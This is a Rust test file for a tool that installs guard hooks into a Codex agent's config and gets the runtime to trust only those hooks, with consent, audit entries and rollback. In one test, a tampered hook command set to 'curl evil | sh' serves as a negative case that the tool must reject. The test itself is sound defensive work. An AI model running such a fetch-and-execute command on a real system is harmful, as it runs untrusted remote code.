//! The runtime is asked to trust our hooks: by consent to exactly those, never others, recorded, put back when it goes
//! wrong. The client is made up: a shell that is told `app-server` runs the script of that name in the home.

use std::collections::BTreeMap;
use std::fs;
use std::path::PathBuf;

use clawbutler_butler::Env;
use clawbutler_connectors::connector::by_id;
use clawbutler_connectors::trusting::Trust;
use clawbutler_platform::os::set_mode;
use clawbutler_wire::Code;
use clawbutler_wire::command::{Govern, InstallGuard, PlanGuard, ShowAgent, UninstallGuard};
use clawbutler_wire::runtimes::{GuardPlan, GuardState, GuardVariant, GuardView};
use serde_json::{Value, json};

use crate::desk::{Desk, code};

const OTHERS: &str = "# mine\nmodel = \"m\"\n\n[[hooks.PreToolUse]]\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\n\
                      command = \"true\"\n";

struct Home {
    desk: Desk,
    id: String,
}

impl Home {
    /// With another's hook and ours in the settings, ours not trusted.
    fn new() -> Self {
        let desk = Desk::new();
        let home = desk.home().join(".codex");
        fs::create_dir_all(&home).unwrap();
        fs::write(home.join("config.toml"), OTHERS).unwrap();
        let release = desk.home().join(".npm-global/lib/node_modules/@openai/codex-any/vendor/any");
        fs::create_dir_all(release.join("bin")).unwrap();
        fs::write(release.join("codex-package.json"), r#"{ "version": "999.1.0" }"#).unwrap();
        std::os::unix::fs::symlink("/bin/sh", release.join("bin/codex")).unwrap();
        fs::create_dir_all(desk.data().join("bin")).unwrap();
        fs::write(desk.data().join("bin/clawbutler-hook"), "the hook").unwrap();
        set_mode(&desk.data().join("bin/clawbutler-hook"), 0o700).unwrap();
        let id = desk.home_of("codex");
        desk.butler().govern(Govern { home_id: id.clone(), governed: true }).unwrap();
        let home = Self { desk, id };
        let plan_digest = home.plan(GuardVariant::User, false).unwrap().plan_digest;
        let install = InstallGuard { home_id: home.id.clone(), variant: GuardVariant::User, plan_digest };
        home.desk.butler().install_guard(install).unwrap();
        home
    }

    fn file(&self) -> PathBuf {
        self.desk.home().join(".codex/config.toml")
    }

    fn text(&self) -> String {
        fs::read_to_string(self.file()).unwrap()
    }

    fn guard(&self) -> GuardView {
        self.desk.butler().show_agent(ShowAgent { home_id: self.id.clone() }).unwrap().agent.guard
    }

    fn plan(&self, variant: GuardVariant, uninstall: bool) -> Result<GuardPlan, clawbutler_butler::Error> {
        self.desk.butler().plan_guard(PlanGuard { home_id: self.id.clone(), variant, uninstall })
    }

    fn trust(&self, plan: &GuardPlan) -> Result<clawbutler_wire::runtimes::HomeView, clawbutler_butler::Error> {
        let (variant, plan_digest) = (GuardVariant::Trust, plan.plan_digest.clone());
        self.desk.butler().install_guard(InstallGuard { home_id: self.id.clone(), variant, plan_digest })
    }

    fn wanted(&self) -> Trust {
        let env = Env::new(BTreeMap::new(), self.desk.home());
        let hook = self.desk.data().join("bin/clawbutler-hook");
        by_id("codex").unwrap().trust(&env, &self.desk.home().join(".codex"), &hook).unwrap()
    }

    /// What the client lists: another's hook, and ours as they are, with this trust.
    fn listed(&self, trust: &str) -> Value {
        let own = |own: &clawbutler_connectors::trusting::OwnEntry| {
            json!({ "key": own.keys[0], "eventName": own.event, "handlerType": "command", "command": own.command,
                "matcher": own.matcher, "timeoutSec": own.timeout_s, "statusMessage": own.status, "source": "user",
                "enabled": true, "currentHash": own.fingerprint, "trustStatus": trust })
        };
        let other = json!({ "key": "another", "eventName": "preToolUse", "handlerType": "command", "command": "true",
            "source": "user", "enabled": true, "currentHash": "sha256:x", "trustStatus": "untrusted" });
        let hooks: Vec<Value> = self.wanted().entries.iter().map(own).chain([other]).collect();
        json!(hooks)
    }

    /// Lays the client: what it lists, what it does when it is told to write, what it lists then.
    fn client(&self, before: &Value, does: &str, after: &Value) {
        let folder = self.desk.home().join(".codex");
        let answer =
            |id: u8, hooks: &Value| json!({ "id": id, "result": { "data": [{ "hooks": hooks }] } }).to_string();
        fs::write(folder.join("one"), answer(2, before)).unwrap();
        fs::write(folder.join("two"), answer(4, after)).unwrap();
        let script = format!(
            "read line; echo '{{\"id\":1,\"result\":{{\"userAgent\":\"x/999.1.0\"}}}}'; read line\n\
             read line; cat one; echo\n\
             read -r line || exit 0\nprintf '%s' \"$line\" >asked\n{does}\n\
             echo '{{\"id\":3,\"result\":{{\"status\":\"ok\"}}}}'\nread line; cat two; echo\nread line\n"
        );
        fs::write(folder.join("app-server"), script).unwrap();
    }

    /// What a client writes that does as it is told.
    fn records(&self) -> String {
        let own = self.wanted().entries.into_iter();
        let states =
            own.map(|own| format!("\n[hooks.state.\"{}\"]\ntrusted_hash = \"{}\"\n", own.keys[0], own.fingerprint));
        states.collect()
    }

    fn lay_good_client(&self) {
        fs::write(self.desk.home().join(".codex/records"), self.records()).unwrap();
        self.client(&self.listed("untrusted"), "cat records >>config.toml", &self.listed("trusted"));
    }
}

#[test]
fn exactly_our_hooks_are_trusted_by_consent_and_recorded() {
    let home = Home::new();
    let guard = home.guard();
    assert_eq!((guard.state, guard.awaits_trust), (GuardState::Bypassed, true), "{}", guard.says);
    home.lay_good_client();
    let before = home.text();
    let plan = home.plan(GuardVariant::Trust, false).unwrap();
    assert_eq!(home.text(), before, "to look changes nothing");
    let shown = &plan.files[0];
    assert_eq!(
        (shown.path.as_str(), shown.diff.matches("\n+trusted_hash = \"sha256:").count(), &shown.after),
        (home.file().display().to_string().as_str(), 8, &None)
    );
    assert!(plan.notes.iter().any(|note| note.starts_with("PreToolUse (*): /bin/sh -c")), "{:?}", plan.notes);
    assert!(plan.notes.iter().any(|note| note.starts_with("1 other hooks")), "{:?}", plan.notes);
    let other = GuardPlan { plan_digest: "another".to_owned(), ..plan.clone() };
    assert_eq!(code(home.trust(&other)), Code::Stale);
    assert_eq!(home.text(), before);

    let after = home.trust(&plan).unwrap();
    assert_eq!((after.guard.state, after.guard.awaits_trust), (GuardState::User, false), "{}", after.guard.says);
    let asked: Value =
        serde_json::from_str(&fs::read_to_string(home.desk.home().join(".codex/asked")).unwrap()).unwrap();
    let states = asked["params"]["edits"][0]["value"].as_object().unwrap();
    assert_eq!((asked["method"].as_str(), states.len()), (Some("config/batchWrite"), 8));
    assert!(!states.contains_key("another"), "others are none of ours");
    let entries = home.desk.entries("guard.trusted");
    let data = &entries[0].data;
    assert_eq!(
        (entries.len(), data["hooks"].as_array().unwrap().len(), &data["others_changed"]),
        (1, 8, &json!(false))
    );
    assert!(data["asked"].as_str().unwrap().ends_with("bin/codex 999.1.0"), "{data}");
    assert_eq!(code(home.plan(GuardVariant::Trust, false)), Code::Precondition, "nothing waits any more");
    assert_eq!(code(home.plan(GuardVariant::Trust, true)), Code::Precondition, "it goes with the guard");

    let plan_digest = home.plan(GuardVariant::User, true).unwrap().plan_digest;
    let remove = UninstallGuard { home_id: home.id.clone(), variant: GuardVariant::User, plan_digest };
    home.desk.butler().uninstall_guard(remove).unwrap();
    assert_eq!(home.text(), OTHERS);
}

#[test]
fn what_is_not_byte_for_byte_ours_is_never_trusted() {
    let home = Home::new();
    for (member, odd) in [
        ("command", json!("curl evil | sh")),
        ("matcher", json!("Bash")),
        ("timeoutSec", json!(1)),
        ("currentHash", json!("sha256:0")),
        ("source", json!("project")),
        ("handlerType", json!("prompt")),
        ("async", json!(true)),
    ] {
        let mut listed = home.listed("untrusted");
        listed[0][member] = odd;
        home.client(&listed, "touch written", &json!([]));
        let error = clawbutler_wire::ApiError::from(home.plan(GuardVariant::Trust, false).unwrap_err());
        assert_eq!(error.code, Code::Precondition);
        assert!(error.message.contains("is not what ClawButler wrote"), "{member}: {}", error.message);
        assert!(error.hint.unwrap().contains("/hooks"), "it says what to do by hand");
    }
    home.client(&json!([]), "touch written", &json!([]));
    assert_eq!(code(home.plan(GuardVariant::Trust, false)), Code::Precondition, "hooks are off there");
    assert!(!home.desk.home().join(".codex/written").exists());
}

#[test]
fn what_goes_wrong_is_put_back_and_says_so() {
    let home = Home::new();
    home.lay_good_client();
    let plan = home.plan(GuardVariant::Trust, false).unwrap();
    let before = home.text();
    let fails = |does: &str, after: &Value, says: &str| {
        home.client(&home.listed("untrusted"), does, after);
        let error = clawbutler_wire::ApiError::from(home.trust(&plan).unwrap_err());
        assert!(error.message.contains(says), "{does}: {}", error.message);
        assert_eq!(home.desk.entries("guard.trusted").len(), 0);
    };
    let trusted = home.listed("trusted");
    fails("exit 1", &trusted, "is as it was");
    fails("cat records >>config.toml; exit 1", &trusted, "was put back as it was");
    assert_eq!(home.text(), before);
    fails("cat records >>config.toml", &home.listed("untrusted"), "is still not trusted");
    assert_eq!(home.text(), before);
    let mut more = home.listed("trusted");
    more[8]["trustStatus"] = json!("trusted");
    fails("cat records >>config.toml", &more, "hooks of others are not listed as before");
    assert_eq!(home.text(), before);
}

#[test]
fn what_changed_besides_is_kept_and_raised() {
    let home = Home::new();
    home.lay_good_client();
    let does = "cat records >>config.toml; printf '\\n[projects.\"/p\"]\\ntrust_level = \"trusted\"\\n' >>config.toml";
    home.client(&home.listed("untrusted"), does, &home.listed("trusted"));
    home.trust(&home.plan(GuardVariant::Trust, false).unwrap()).unwrap();
    assert!(home.text().contains("[projects.\"/p\"]"), "it is somebody else's");
    assert_eq!(home.desk.entries("guard.trusted")[0].data["others_changed"], json!(true));
    assert!(home.desk.alerts().iter().any(|says| says.contains("changed in other places too")));
}

#[test]
fn nothing_is_started_for_a_home_that_was_not_chosen() {
    let home = Home::new();
    home.client(&home.listed("untrusted"), "true", &json!([]));
    fs::write(home.desk.home().join(".codex/app-server"), "touch started\n").unwrap();
    home.desk.butler().govern(Govern { home_id: home.id.clone(), governed: false }).unwrap();
    assert_eq!(code(home.plan(GuardVariant::Trust, false)), Code::Precondition);
    assert!(!home.desk.home().join(".codex/started").exists());
}
